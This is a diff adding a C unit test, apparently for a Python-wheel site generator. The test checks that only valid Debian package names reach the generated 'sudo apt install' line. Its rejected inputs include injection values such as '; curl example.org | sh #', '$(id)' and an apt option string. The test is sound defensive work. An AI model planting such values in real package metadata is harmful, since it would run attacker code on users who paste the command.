@@ -242,6 +242,29 @@ START_TEST(the_page_for_people_is_escaped)
 }
 END_TEST
 
+/* Names that another master left in the database: what isn't one of Debian's would be run by whoever pastes the line. */
+START_TEST(only_debian_names_are_in_the_install_line)
+{
+    static const char *const bad[] = {
+        "; curl example.org | sh #", "-oAPT::x=1", "$(id)", "Libgold", "a", "lib gold", ""};
+    project_file *wheel = &data->releases.at[0].files.at[0];
+    piw_msg_list(msg, &wheel->apt_dependencies, PIW_COUNT(bad) + 2);
+    for (size_t i = 0; i < PIW_COUNT(bad); i++)
+        wheel->apt_dependencies.at[i] = piw_text_of(bad[i]);
+    wheel->apt_dependencies.at[PIW_COUNT(bad)] = piw_text_of("zlib1g");
+    wheel->apt_dependencies.at[PIW_COUNT(bad) + 1] = piw_text_of("libgold1:armhf");
+    piw_buffer page = {0};
+    page_project(&site, data, &page);
+    ck_assert_ptr_nonnull(strstr(text_of(&page), "<pre>sudo apt install libgold1:armhf zlib1g\npip3 install "));
+    piw_buffer_fini(&page);
+
+    wheel->apt_dependencies.count = PIW_COUNT(bad);
+    page_project(&site, data, &page);
+    ck_assert_ptr_nonnull(strstr(text_of(&page), "<pre>pip3 install "));
+    piw_buffer_fini(&page);
+}
+END_TEST
+
 /* --- On disk --- */
 
 static const char *at(const char *name)
@@ -546,6 +569,7 @@ Suite *unit_suite(void)
     tcase_add_test(tests, files_of_another_place_are_linked_there);
     tcase_add_test(tests, the_json_is_well_formed_and_says_all);
     tcase_add_test(tests, the_page_for_people_is_escaped);
+    tcase_add_test(tests, only_debian_names_are_in_the_install_line);
     tcase_add_test(tests, pages_are_written_and_removed);
     tcase_add_test(tests, project_pages_alone_leave_the_index);
     tcase_add_test(tests, a_name_that_is_no_package_touches_nothing);
